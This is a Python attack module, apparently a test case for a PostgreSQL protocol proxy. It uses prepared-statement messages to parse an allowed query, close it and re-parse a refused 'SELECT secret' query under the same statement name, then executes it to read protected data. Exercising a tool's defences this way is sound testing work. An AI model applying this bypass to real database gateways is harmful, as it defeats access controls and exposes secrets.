"""Parses an allowed statement, then one that is refused under the same name, and executes it."""

from attacks.talking import Server

from pgtoll.wire.messages import message

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        client.send(_parse(b"SELECT id FROM customer"), message(b"S", b""))
        client.replies()
        client.send(
            message(b"C", b"Ss\0"),
            _parse(b"SELECT secret FROM vlt_account"),
            message(b"B", b"\0s\0" + b"\0\0" * 3),
            message(b"E", b"\0\0\0\0\0"),
            message(b"S", b""),
        )
        return b"".join(data for _, data in client.replies())


def _parse(sql: bytes) -> bytes:
    return message(b"P", b"s\0" + sql + b"\0\0\0")
